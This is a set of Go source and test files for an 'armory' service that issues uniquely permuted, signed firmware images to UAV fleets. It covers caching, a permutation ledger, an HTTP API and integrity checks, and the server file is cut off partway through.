			Epoch:          req.Epoch,
			PermDigest:     pd,
			Report:         rep,
		})
		s.reports.putBase(baseDigest, pre)
		return art, nil
	}
	return nil, &RequestError{
		Status: 503,
		Msg:    fmt.Sprintf("no free permutation after %d attempts (fleet larger than the base image's diversity?)", s.cfg.MaxAttempts),
	}
}

// Report returns the stored report for an artifact or base digest.
func (s *Service) Report(digest string) (*StoredReport, bool) {
	return s.reports.get(digest)
}

// Stats snapshots the service counters.
func (s *Service) Stats() Stats {
	st := Stats{
		Submitted:        s.submitted.Load(),
		Completed:        s.completed.Load(),
		Failed:           s.failed.Load(),
		CacheHits:        s.cache.hits.Load(),
		CacheMisses:      s.cache.misses.Load(),
		CachedBases:      s.cache.len(),
		LedgerBases:      s.ledger.Bases(),
		LedgerConflicts:  s.ledgerConflicts.Load(),
		Reissues:         s.reissues.Load(),
		VerifyRejections: s.verifyRejections.Load(),
		ArtifactsSigned:  s.signed.Load(),
	}
	st.QueueHighWater = s.queueHigh.Load()
	for _, e := range s.cache.all() {
		if e.base != nil {
			bs := e.base.Stats()
			st.FastVerifies += bs.FastVerifies
			st.FallbackVerifies += bs.FallbackVerifies
			if sites, resolved, ok := e.base.VSASummary(); ok {
				st.VSASites += uint64(sites)
				st.VSAResolvedSites += uint64(resolved)
			}
		}
	}
	return st
}

// MetricsText renders the service counters as a stable, sorted
// "name value" block in the same shape netlink.Fleet.MetricsText uses,
// so one scraper handles both daemons.
func (s *Service) MetricsText() string {
	st := s.Stats()
	lines := []string{
		fmt.Sprintf("armory.submitted %d", st.Submitted),
		fmt.Sprintf("armory.completed %d", st.Completed),
		fmt.Sprintf("armory.failed %d", st.Failed),
		fmt.Sprintf("armory.cache_hits %d", st.CacheHits),
		fmt.Sprintf("armory.cache_misses %d", st.CacheMisses),
		fmt.Sprintf("armory.cached_bases %d", st.CachedBases),
		fmt.Sprintf("armory.ledger_bases %d", st.LedgerBases),
		fmt.Sprintf("armory.ledger_conflicts %d", st.LedgerConflicts),
		fmt.Sprintf("armory.reissues %d", st.Reissues),
		fmt.Sprintf("armory.verify_rejections %d", st.VerifyRejections),
		fmt.Sprintf("armory.fast_verifies %d", st.FastVerifies),
		fmt.Sprintf("armory.fallback_verifies %d", st.FallbackVerifies),
		fmt.Sprintf("armory.vsa_sites %d", st.VSASites),
		fmt.Sprintf("armory.vsa_resolved_sites %d", st.VSAResolvedSites),
		fmt.Sprintf("armory.artifacts_signed %d", st.ArtifactsSigned),
		fmt.Sprintf("armory.queue_high_water %d", st.QueueHighWater),
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n") + "\n"
}

// PermDigest is the ledger key of one permutation: the SHA-256 of its
// indices in little-endian 32-bit encoding.
func PermDigest(perm []int) string {
	buf := make([]byte, 4*len(perm))
	for i, p := range perm {
		binary.LittleEndian.PutUint32(buf[4*i:], uint32(p))
	}
	return Digest(buf)
}

// deriveSeed derives the deterministic permutation seed for one draw of
// the redraw chain. Same request, same seed — idempotent replays —
// while any change to base, vehicle, epoch or attempt lands elsewhere
// in the 64-bit space.
func deriveSeed(baseDigest, vehicle string, epoch uint64, attempt int) int64 {
	h := fnv.New64a()
	h.Write([]byte(baseDigest))
	h.Write([]byte{0})
	h.Write([]byte(vehicle))
	var num [16]byte
	binary.LittleEndian.PutUint64(num[:8], epoch)
	binary.LittleEndian.PutUint64(num[8:], uint64(attempt))
	h.Write(num[:])
	return int64(h.Sum64())
}
