package armory

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
)

// Client talks to an armory daemon. The zero HTTPClient uses
// http.DefaultClient; Secret, when set, is used to authenticate
// artifact signatures client-side.
type Client struct {
	URL        string // base URL, e.g. "http://127.0.0.1:8737"
	Secret     []byte
	HTTPClient *http.Client
}

// NewClient returns a client for the armory at url. A nil secret skips
// client-side signature verification.
func NewClient(url string, secret []byte) *Client {
	return &Client{URL: url, Secret: secret}
}

func (c *Client) http() *http.Client {
	if c.HTTPClient != nil {
		return c.HTTPClient
	}
	return http.DefaultClient
}

// Randomize submits a base image for one (vehicle, epoch) and returns
// the signed artifact. The artifact digest is recomputed locally and,
// when the client has a secret, the signature is verified — a
// compromised or misconfigured armory cannot hand back bytes it did not
// sign for.
func (c *Client) Randomize(image []byte, vehicle string, epoch uint64) (*Artifact, error) {
	url := c.URL + "/randomize?vehicle=" + vehicle + "&epoch=" + strconv.FormatUint(epoch, 10)
	resp, err := c.http().Post(url, "application/octet-stream", bytes.NewReader(image))
	if err != nil {
		return nil, fmt.Errorf("armory: %w", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, fmt.Errorf("armory: reading response: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		var er errorResponse
		if json.Unmarshal(body, &er) == nil && er.Error != "" {
			return nil, &RequestError{Status: resp.StatusCode, Msg: er.Error, Findings: er.Findings}
		}
		return nil, &RequestError{Status: resp.StatusCode, Msg: fmt.Sprintf("armory: HTTP %d", resp.StatusCode)}
	}
	var art Artifact
	if err := json.Unmarshal(body, &art); err != nil {
		return nil, fmt.Errorf("armory: decoding artifact: %w", err)
	}
	if got := Digest(art.Image); got != art.ArtifactDigest {
		return nil, fmt.Errorf("armory: artifact digest mismatch: claimed %s, got %s", art.ArtifactDigest, got)
	}
	if c.Secret != nil && !VerifySignature(c.Secret, art.BaseDigest, art.PermDigest, art.ArtifactDigest, art.Signature) {
		return nil, fmt.Errorf("armory: artifact signature verification failed")
	}
	return &art, nil
}

// ReportByDigest fetches the stored report for an artifact or base
// digest.
func (c *Client) ReportByDigest(digest string) (*StoredReport, error) {
	resp, err := c.http().Get(c.URL + "/report/" + digest)
	if err != nil {
		return nil, fmt.Errorf("armory: %w", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, fmt.Errorf("armory: reading response: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		var er errorResponse
		if json.Unmarshal(body, &er) == nil && er.Error != "" {
			return nil, &RequestError{Status: resp.StatusCode, Msg: er.Error}
		}
		return nil, &RequestError{Status: resp.StatusCode, Msg: fmt.Sprintf("armory: HTTP %d", resp.StatusCode)}
	}
	var rep StoredReport
	if err := json.Unmarshal(body, &rep); err != nil {
		return nil, fmt.Errorf("armory: decoding report: %w", err)
	}
	return &rep, nil
}
