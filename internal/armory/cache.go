package armory

import (
	"crypto/sha256"
	"encoding/hex"
	"sync"
	"sync/atomic"

	"mavr/internal/core"
	"mavr/internal/staticverify"
)

// Digest is the hex SHA-256 of a byte string — the content address used
// throughout the armory for submissions, canonical base images,
// permutations and artifacts.
func Digest(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// baseEntry is one cached base image: the submission's parse +
// preprocess + staticverify.NewBase work, done exactly once per
// distinct submission digest. Parse failures are cached too (same
// bytes, same error), so a misbehaving client cannot make the service
// re-parse garbage on every request.
type baseEntry struct {
	once sync.Once

	submitted string // digest of the submitted bytes
	canonical string // digest of pre.Image — the ledger key
	pre       *core.Preprocessed
	base      *staticverify.Base
	err       error
}

// build runs the once-per-base pipeline stage.
func (e *baseEntry) build(img []byte, opts staticverify.Options) {
	e.once.Do(func() {
		pre, err := core.LoadImage(img)
		if err != nil {
			e.err = err
			return
		}
		e.pre = pre
		e.canonical = Digest(pre.Image)
		e.base = staticverify.NewBase(pre, opts)
	})
}

// baseCache is the content-addressed cache of base images, bounded FIFO
// by distinct submission digest. Concurrent submissions of a new digest
// single-flight the expensive build: one goroutine preprocesses and
// recovers the CFG, the rest block on the entry and count as hits.
type baseCache struct {
	mu      sync.Mutex
	max     int
	entries map[string]*baseEntry
	order   []string

	hits   atomic.Uint64
	misses atomic.Uint64
	builds atomic.Uint64
}

func newBaseCache(max int) *baseCache {
	if max <= 0 {
		max = 64
	}
	return &baseCache{max: max, entries: make(map[string]*baseEntry)}
}

// get returns the entry for img, building it (once) on a miss, and
// reports whether the entry already existed. The returned entry is
// fully built.
func (c *baseCache) get(img []byte, opts staticverify.Options) (*baseEntry, bool) {
	digest := Digest(img)
	c.mu.Lock()
	e, ok := c.entries[digest]
	if !ok {
		e = &baseEntry{submitted: digest}
		c.entries[digest] = e
		c.order = append(c.order, digest)
		for len(c.order) > c.max {
			delete(c.entries, c.order[0])
			c.order = c.order[1:]
		}
	}
	c.mu.Unlock()
	if ok {
		c.hits.Add(1)
	} else {
		c.misses.Add(1)
		c.builds.Add(1)
	}
	e.build(img, opts)
	return e, ok
}

// len reports the number of cached bases.
func (c *baseCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// all snapshots the cached entries (for metrics aggregation).
func (c *baseCache) all() []*baseEntry {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]*baseEntry, 0, len(c.order))
	for _, d := range c.order {
		out = append(out, c.entries[d])
	}
	return out
}
