//mavr:wallclock
// (httptest servers manage their own deadlines; the armory logic under
// test stays deterministic.)
package armory

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestServerRoundTrip exercises the HTTP surface end to end through the
// typed client: randomize, signature check, report fetch, metrics.
func TestServerRoundTrip(t *testing.T) {
	elf, _ := testImage()
	s := New(Config{Workers: 2})
	defer s.Close()
	srv := httptest.NewServer(Handler(s))
	defer srv.Close()

	c := NewClient(srv.URL, DefaultSecret)
	c.HTTPClient = srv.Client()

	art, err := c.Randomize(elf, "uav-1", 0)
	if err != nil {
		t.Fatal(err)
	}
	if !art.Report.OK() {
		t.Fatal("served report not OK")
	}
	if len(art.Image) == 0 {
		t.Fatal("artifact image did not survive the JSON round trip")
	}

	// The stored report is addressable by artifact digest...
	rep, err := c.ReportByDigest(art.ArtifactDigest)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Kind != "artifact" || rep.Vehicle != "uav-1" || rep.PermDigest != art.PermDigest {
		t.Fatalf("artifact report mismatch: %+v", rep)
	}
	if rep.Report == nil || !rep.Report.OK() {
		t.Fatal("stored report missing or not OK")
	}
	// ...and the base digest resolves to a base summary.
	baseRep, err := c.ReportByDigest(art.BaseDigest)
	if err != nil {
		t.Fatal(err)
	}
	if baseRep.Kind != "base" || baseRep.Blocks == 0 {
		t.Fatalf("base report mismatch: %+v", baseRep)
	}

	resp, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), "armory.completed 1\n") {
		t.Fatalf("metrics scrape missing completed count:\n%s", body)
	}
}

// TestServerErrors checks the structured JSON error paths.
func TestServerErrors(t *testing.T) {
	elf, _ := testImage()
	s := New(Config{Workers: 1})
	defer s.Close()
	srv := httptest.NewServer(Handler(s))
	defer srv.Close()
	c := NewClient(srv.URL, DefaultSecret)
	c.HTTPClient = srv.Client()

	// Garbage body → 422 with a structured error.
	var re *RequestError
	if _, err := c.Randomize([]byte("garbage"), "uav-1", 0); !errors.As(err, &re) || re.Status != 422 {
		t.Fatalf("garbage image: %v, want RequestError 422", err)
	}
	// Missing vehicle → 400.
	if _, err := c.Randomize(elf, "", 0); !errors.As(err, &re) || re.Status != 400 {
		t.Fatalf("missing vehicle: %v, want RequestError 400", err)
	}
	// Bad epoch → 400 straight from the handler.
	resp, err := srv.Client().Post(srv.URL+"/randomize?vehicle=uav-1&epoch=banana", "application/octet-stream", strings.NewReader("x"))
	if err != nil {
		t.Fatal(err)
	}
	var er errorResponse
	if err := json.NewDecoder(resp.Body).Decode(&er); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest || er.Error == "" {
		t.Fatalf("bad epoch: status %d, error %q", resp.StatusCode, er.Error)
	}
	// Unknown report digest → 404.
	if _, err := c.ReportByDigest("deadbeef"); !errors.As(err, &re) || re.Status != 404 {
		t.Fatalf("unknown digest: %v, want RequestError 404", err)
	}
	// GET on /randomize → 405.
	resp, err = srv.Client().Get(srv.URL + "/randomize")
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET /randomize = %d, want 405", resp.StatusCode)
	}
	// Healthz.
	resp, err = srv.Client().Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "ok\n" {
		t.Fatalf("healthz = %q", body)
	}
}

// TestClientRejectsTamperedArtifact proves the client-side integrity
// checks: a proxy (or compromised armory) altering the artifact bytes
// or the signature is caught before anything would be flashed.
func TestClientRejectsTamperedArtifact(t *testing.T) {
	elf, _ := testImage()
	s := New(Config{Workers: 1})
	defer s.Close()

	tamper := func(mutate func(*Artifact)) error {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			art, err := s.Randomize(Request{Image: elf, Vehicle: "uav-1", Epoch: 0})
			if err != nil {
				t.Fatal(err)
			}
			mutate(art)
			writeJSON(w, http.StatusOK, art)
		}))
		defer srv.Close()
		c := NewClient(srv.URL, DefaultSecret)
		c.HTTPClient = srv.Client()
		_, err := c.Randomize(elf, "uav-1", 0)
		return err
	}

	if err := tamper(func(a *Artifact) { a.Image[0] ^= 0xFF }); err == nil || !strings.Contains(err.Error(), "digest mismatch") {
		t.Fatalf("tampered image: %v, want digest mismatch", err)
	}
	if err := tamper(func(a *Artifact) { a.Signature = strings.Repeat("0", len(a.Signature)) }); err == nil || !strings.Contains(err.Error(), "signature") {
		t.Fatalf("tampered signature: %v, want signature failure", err)
	}
	if err := tamper(func(a *Artifact) {}); err != nil {
		t.Fatalf("untampered response rejected: %v", err)
	}
}
