package armory

import (
	"sync"

	"mavr/internal/core"
	"mavr/internal/staticverify"
)

// StoredReport is what GET /report/<digest> serves: either one
// artifact's verification outcome (Kind "artifact") or a summary of a
// cached base image (Kind "base").
type StoredReport struct {
	Kind           string               `json:"kind"`
	BaseDigest     string               `json:"base_digest"`
	ArtifactDigest string               `json:"artifact_digest,omitempty"`
	Vehicle        string               `json:"vehicle,omitempty"`
	Epoch          uint64               `json:"epoch,omitempty"`
	PermDigest     string               `json:"perm_digest,omitempty"`
	Blocks         int                  `json:"blocks,omitempty"`
	RegionStart    uint32               `json:"region_start,omitempty"`
	RegionEnd      uint32               `json:"region_end,omitempty"`
	Report         *staticverify.Report `json:"report,omitempty"`
}

// reportStore keeps recent verification reports addressable by digest,
// bounded FIFO over artifact reports (base summaries are bounded by the
// base cache upstream and never evicted here).
type reportStore struct {
	mu      sync.Mutex
	max     int
	reports map[string]*StoredReport
	order   []string // artifact digests in insertion order
}

func newReportStore(max int) *reportStore {
	if max <= 0 {
		max = 4096
	}
	return &reportStore{max: max, reports: make(map[string]*StoredReport)}
}

// put stores an artifact report under its digest.
func (s *reportStore) put(digest string, r *StoredReport) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.reports[digest]; !ok {
		s.order = append(s.order, digest)
		for len(s.order) > s.max {
			delete(s.reports, s.order[0])
			s.order = s.order[1:]
		}
	}
	s.reports[digest] = r
}

// putBase stores (idempotently) the summary of a cached base image
// under its canonical digest, so clients can resolve a base digest seen
// in an artifact report.
func (s *reportStore) putBase(digest string, pre *core.Preprocessed) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.reports[digest]; ok {
		return
	}
	s.reports[digest] = &StoredReport{
		Kind:        "base",
		BaseDigest:  digest,
		Blocks:      len(pre.Blocks),
		RegionStart: pre.RegionStart,
		RegionEnd:   pre.RegionEnd,
	}
}

// get looks a report up by digest.
func (s *reportStore) get(digest string) (*StoredReport, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	r, ok := s.reports[digest]
	return r, ok
}
