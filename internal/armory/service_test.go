package armory

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"mavr/internal/core"
	"mavr/internal/firmware"
	"mavr/internal/staticverify"
)

// testImage generates the testapp firmware once and returns its ELF
// bytes (the armory's submission format) plus the preprocessed handle
// for cross-checking artifacts.
var testImage = sync.OnceValues(func() ([]byte, *core.Preprocessed) {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		panic(err)
	}
	elf, err := img.ELF.Marshal()
	if err != nil {
		panic(err)
	}
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		panic(err)
	}
	return elf, pre
})

// TestServiceRoundTrip proves the pipeline end to end: the artifact is
// exactly core.Randomize(base, perm) for the returned permutation, the
// report is clean, the signature validates, and a fresh stateless
// verification agrees with the served report.
func TestServiceRoundTrip(t *testing.T) {
	elf, pre := testImage()
	s := New(Config{Workers: 2})
	defer s.Close()

	art, err := s.Randomize(Request{Image: elf, Vehicle: "uav-1", Epoch: 0})
	if err != nil {
		t.Fatal(err)
	}
	if !art.Report.OK() {
		t.Fatalf("report not OK: %d errors", art.Report.Errors())
	}
	if art.BaseDigest != Digest(pre.Image) {
		t.Fatalf("base digest = %s, want canonical %s", art.BaseDigest, Digest(pre.Image))
	}
	if art.ArtifactDigest != Digest(art.Image) {
		t.Fatal("artifact digest does not match artifact bytes")
	}
	if !VerifySignature(DefaultSecret, art.BaseDigest, art.PermDigest, art.ArtifactDigest, art.Signature) {
		t.Fatal("signature does not verify under the default secret")
	}

	// The artifact must be reproducible from the returned permutation.
	r, err := core.Randomize(pre, art.Perm)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(r.Image, art.Image) {
		t.Fatal("artifact image differs from core.Randomize(pre, art.Perm)")
	}
	// And a cold stateless verification of it must be clean too.
	if rep := staticverify.Verify(pre, r, staticverify.DefaultOptions()); !rep.OK() {
		t.Fatalf("fresh verification of served artifact failed: %d errors", rep.Errors())
	}

	// Replaying the same request is idempotent: same artifact, reissued.
	art2, err := s.Randomize(Request{Image: elf, Vehicle: "uav-1", Epoch: 0})
	if err != nil {
		t.Fatal(err)
	}
	if !art2.Reissued {
		t.Fatal("replay was not marked reissued")
	}
	if art2.ArtifactDigest != art.ArtifactDigest || !bytes.Equal(art2.Image, art.Image) {
		t.Fatal("replay produced a different artifact")
	}
	if s.Ledger().Issued(art.BaseDigest) != 1 {
		t.Fatalf("ledger issued = %d after replay, want 1", s.Ledger().Issued(art.BaseDigest))
	}

	// A new epoch of the same vehicle is a new holder: new permutation.
	art3, err := s.Randomize(Request{Image: elf, Vehicle: "uav-1", Epoch: 1})
	if err != nil {
		t.Fatal(err)
	}
	if art3.PermDigest == art.PermDigest {
		t.Fatal("re-randomization epoch reused the previous permutation")
	}

	st := s.Stats()
	if st.CacheMisses != 1 {
		t.Fatalf("cache misses = %d, want 1 (one distinct base)", st.CacheMisses)
	}
	if st.CacheHits != 2 {
		t.Fatalf("cache hits = %d, want 2", st.CacheHits)
	}
	if st.Completed != 3 || st.Failed != 0 {
		t.Fatalf("completed=%d failed=%d, want 3 and 0", st.Completed, st.Failed)
	}
	if st.FallbackVerifies != 0 {
		t.Fatalf("fallback verifies = %d, want 0 (cached base must fast-path)", st.FallbackVerifies)
	}
}

// TestServiceFleetUniqueness floods the service with concurrent
// submissions for distinct vehicles and asserts the ledger invariant:
// every vehicle gets its own permutation, all verified clean.
func TestServiceFleetUniqueness(t *testing.T) {
	elf, _ := testImage()
	s := New(Config{Workers: 4})
	defer s.Close()

	const fleet = 48
	arts := make([]*Artifact, fleet)
	errs := make([]error, fleet)
	var wg sync.WaitGroup
	for i := 0; i < fleet; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			arts[i], errs[i] = s.Randomize(Request{
				Image:   elf,
				Vehicle: fmt.Sprintf("uav-%03d", i),
				Epoch:   0,
			})
		}(i)
	}
	wg.Wait()

	perms := make(map[string]int)
	images := make(map[string]int)
	for i := 0; i < fleet; i++ {
		if errs[i] != nil {
			t.Fatalf("vehicle %d: %v", i, errs[i])
		}
		if !arts[i].Report.OK() {
			t.Fatalf("vehicle %d: report not OK", i)
		}
		if prev, dup := perms[arts[i].PermDigest]; dup {
			t.Fatalf("vehicles %d and %d issued the same permutation", prev, i)
		}
		perms[arts[i].PermDigest] = i
		if prev, dup := images[arts[i].ArtifactDigest]; dup {
			t.Fatalf("vehicles %d and %d received identical images", prev, i)
		}
		images[arts[i].ArtifactDigest] = i
	}
	if got := s.Ledger().Issued(arts[0].BaseDigest); got != fleet {
		t.Fatalf("ledger issued = %d, want %d", got, fleet)
	}
	st := s.Stats()
	if st.CacheMisses != 1 {
		t.Fatalf("cache misses = %d, want 1 (single-flight per base)", st.CacheMisses)
	}
	if st.CacheHits != fleet-1 {
		t.Fatalf("cache hits = %d, want %d", st.CacheHits, fleet-1)
	}
}

// TestServiceBadRequests checks the structured rejection paths.
func TestServiceBadRequests(t *testing.T) {
	elf, _ := testImage()
	s := New(Config{Workers: 1})
	defer s.Close()

	var re *RequestError
	if _, err := s.Randomize(Request{Image: nil, Vehicle: "uav-1"}); !errors.As(err, &re) || re.Status != 400 {
		t.Fatalf("empty image: %v, want RequestError 400", err)
	}
	if _, err := s.Randomize(Request{Image: elf, Vehicle: ""}); !errors.As(err, &re) || re.Status != 400 {
		t.Fatalf("missing vehicle: %v, want RequestError 400", err)
	}
	if _, err := s.Randomize(Request{Image: []byte("not a firmware image"), Vehicle: "uav-1"}); !errors.As(err, &re) || re.Status != 422 {
		t.Fatalf("garbage image: %v, want RequestError 422", err)
	}
	// The garbage parse failure is cached: same bytes fail again without
	// counting as a fresh build.
	if _, err := s.Randomize(Request{Image: []byte("not a firmware image"), Vehicle: "uav-2"}); !errors.As(err, &re) || re.Status != 422 {
		t.Fatalf("garbage image (cached): %v, want RequestError 422", err)
	}
	st := s.Stats()
	if st.Failed != 4 || st.Completed != 0 {
		t.Fatalf("failed=%d completed=%d, want 4 and 0", st.Failed, st.Completed)
	}
	if st.CacheMisses != 1 || st.CacheHits != 1 {
		t.Fatalf("cache misses=%d hits=%d, want 1 and 1 (negative caching)", st.CacheMisses, st.CacheHits)
	}
}

// TestServiceClosed checks submissions after Close fail cleanly.
func TestServiceClosed(t *testing.T) {
	s := New(Config{Workers: 1})
	s.Close()
	if _, err := s.Randomize(Request{Image: []byte{1}, Vehicle: "uav-1"}); !errors.Is(err, ErrClosed) {
		t.Fatalf("err = %v, want ErrClosed", err)
	}
}

// TestDeriveSeedDistinct spot-checks that the seed chain separates its
// inputs (base, vehicle, epoch, attempt).
func TestDeriveSeedDistinct(t *testing.T) {
	base := deriveSeed("d1", "uav-1", 0, 0)
	variants := []struct {
		name string
		got  int64
	}{
		{"vehicle", deriveSeed("d1", "uav-2", 0, 0)},
		{"epoch", deriveSeed("d1", "uav-1", 1, 0)},
		{"attempt", deriveSeed("d1", "uav-1", 0, 1)},
		{"base", deriveSeed("d2", "uav-1", 0, 0)},
	}
	for _, v := range variants {
		if v.got == base {
			t.Fatalf("changing %s did not change the seed", v.name)
		}
	}
	if deriveSeed("d1", "uav-1", 0, 0) != base {
		t.Fatal("deriveSeed is not deterministic")
	}
}

// TestPermDigestInjective spot-checks the permutation encoding.
func TestPermDigestInjective(t *testing.T) {
	if PermDigest([]int{0, 1, 2}) == PermDigest([]int{0, 2, 1}) {
		t.Fatal("distinct permutations share a digest")
	}
	if PermDigest([]int{0, 1, 2}) != PermDigest([]int{0, 1, 2}) {
		t.Fatal("equal permutations disagree")
	}
}

// TestMetricsText checks the scrape format: sorted "name value" lines.
func TestMetricsText(t *testing.T) {
	elf, _ := testImage()
	s := New(Config{Workers: 1})
	defer s.Close()
	if _, err := s.Randomize(Request{Image: elf, Vehicle: "uav-1"}); err != nil {
		t.Fatal(err)
	}
	text := s.MetricsText()
	for _, want := range []string{
		"armory.submitted 1",
		"armory.completed 1",
		"armory.cache_misses 1",
		"armory.artifacts_signed 1",
		"armory.fast_verifies 1",
	} {
		if !strings.Contains(text, want+"\n") {
			t.Fatalf("metrics missing %q:\n%s", want, text)
		}
	}
}
