package armory

import "sync"

// Holder identifies who a permutation was issued to: one vehicle at one
// re-randomization epoch. Two requests with the same holder are the
// same logical provisioning event (a retry), and may share a
// permutation; two requests with different holders must not.
type Holder struct {
	Vehicle string
	Epoch   uint64
}

// ClaimResult says how the ledger resolved a claim.
type ClaimResult int

const (
	// Issued: the permutation was free and is now recorded for the
	// holder.
	Issued ClaimResult = iota + 1
	// Reissued: the same holder already owns this permutation (request
	// replay); the artifact may be rebuilt deterministically.
	Reissued
	// Conflict: a different holder owns this permutation of this base —
	// issuing it would violate fleet diversity. The caller must redraw.
	Conflict
)

// Ledger enforces the fleet permutation invariant: for any one base
// image, no two holders are ever issued the same permutation. It is the
// paper's n!-diversity argument turned from an assumption into a
// checked property. Safe for concurrent use.
type Ledger struct {
	mu    sync.Mutex
	bases map[string]map[string]Holder // base digest -> perm digest -> holder
}

// NewLedger returns an empty ledger.
func NewLedger() *Ledger {
	return &Ledger{bases: make(map[string]map[string]Holder)}
}

// Claim records permutation permDigest of base baseDigest for h, unless
// a different holder already owns it.
func (l *Ledger) Claim(baseDigest, permDigest string, h Holder) ClaimResult {
	l.mu.Lock()
	defer l.mu.Unlock()
	perms := l.bases[baseDigest]
	if perms == nil {
		perms = make(map[string]Holder)
		l.bases[baseDigest] = perms
	}
	if owner, ok := perms[permDigest]; ok {
		if owner == h {
			return Reissued
		}
		return Conflict
	}
	perms[permDigest] = h
	return Issued
}

// Release frees a claim, but only if h still owns it — used when a
// later pipeline stage rejects the drawn permutation (patch failure,
// verification findings), so the ledger never accumulates permutations
// that were never actually issued as artifacts.
func (l *Ledger) Release(baseDigest, permDigest string, h Holder) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if perms, ok := l.bases[baseDigest]; ok {
		if owner, ok := perms[permDigest]; ok && owner == h {
			delete(perms, permDigest)
		}
	}
}

// Issued returns how many distinct permutations of one base image have
// been issued.
func (l *Ledger) Issued(baseDigest string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.bases[baseDigest])
}

// Bases returns how many distinct base images have ledger entries.
func (l *Ledger) Bases() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.bases)
}
