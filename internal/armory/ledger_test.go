package armory

import (
	"fmt"
	"sync"
	"testing"
)

// TestLedgerClaimSemantics covers the three claim outcomes and the
// owner-only release rule.
func TestLedgerClaimSemantics(t *testing.T) {
	l := NewLedger()
	a := Holder{Vehicle: "uav-1", Epoch: 0}
	b := Holder{Vehicle: "uav-2", Epoch: 0}
	a1 := Holder{Vehicle: "uav-1", Epoch: 1}

	if got := l.Claim("base", "perm", a); got != Issued {
		t.Fatalf("first claim = %v, want Issued", got)
	}
	if got := l.Claim("base", "perm", a); got != Reissued {
		t.Fatalf("same-holder replay = %v, want Reissued", got)
	}
	if got := l.Claim("base", "perm", b); got != Conflict {
		t.Fatalf("other-vehicle claim = %v, want Conflict", got)
	}
	if got := l.Claim("base", "perm", a1); got != Conflict {
		t.Fatalf("other-epoch claim = %v, want Conflict (epochs are distinct holders)", got)
	}
	if got := l.Claim("other-base", "perm", b); got != Issued {
		t.Fatalf("same perm of another base = %v, want Issued (uniqueness is per base)", got)
	}

	// Release by a non-owner is a no-op; release by the owner frees it.
	l.Release("base", "perm", b)
	if got := l.Claim("base", "perm", b); got != Conflict {
		t.Fatalf("after non-owner release: claim = %v, want Conflict", got)
	}
	l.Release("base", "perm", a)
	if got := l.Claim("base", "perm", b); got != Issued {
		t.Fatalf("after owner release: claim = %v, want Issued", got)
	}

	if got := l.Bases(); got != 2 {
		t.Fatalf("Bases() = %d, want 2", got)
	}
	if got := l.Issued("base"); got != 1 {
		t.Fatalf("Issued(base) = %d, want 1", got)
	}
}

// TestLedgerConcurrentClaims races many holders for the same
// permutation: exactly one must win.
func TestLedgerConcurrentClaims(t *testing.T) {
	l := NewLedger()
	const n = 64
	results := make([]ClaimResult, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			results[i] = l.Claim("base", "perm", Holder{Vehicle: fmt.Sprintf("uav-%d", i)})
		}(i)
	}
	wg.Wait()
	issued, conflicts := 0, 0
	for _, r := range results {
		switch r {
		case Issued:
			issued++
		case Conflict:
			conflicts++
		default:
			t.Fatalf("unexpected result %v", r)
		}
	}
	if issued != 1 || conflicts != n-1 {
		t.Fatalf("issued=%d conflicts=%d, want 1 and %d", issued, conflicts, n-1)
	}
}
