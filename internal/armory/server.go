//mavr:wallclock
package armory

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"

	"mavr/internal/staticverify"
)

// MaxImageBytes bounds a POST /randomize body: generously above any AVR
// flash image (256 KiB parts), small enough that a confused client
// cannot exhaust the server.
const MaxImageBytes = 8 << 20

// errorResponse is the JSON body of every non-2xx response.
type errorResponse struct {
	Error    string                 `json:"error"`
	Findings []staticverify.Finding `json:"findings,omitempty"`
}

// Handler serves the armory HTTP API for s:
//
//	POST /randomize?vehicle=<id>&epoch=<n>   body: base image bytes
//	GET  /report/<digest>                    artifact or base report
//	GET  /metrics                            text counters
//	GET  /healthz
func Handler(s *Service) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/randomize", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			writeError(w, http.StatusMethodNotAllowed, "POST only", nil)
			return
		}
		vehicle := r.URL.Query().Get("vehicle")
		var epoch uint64
		if es := r.URL.Query().Get("epoch"); es != "" {
			v, err := strconv.ParseUint(es, 10, 64)
			if err != nil {
				writeError(w, http.StatusBadRequest, fmt.Sprintf("bad epoch %q: %v", es, err), nil)
				return
			}
			epoch = v
		}
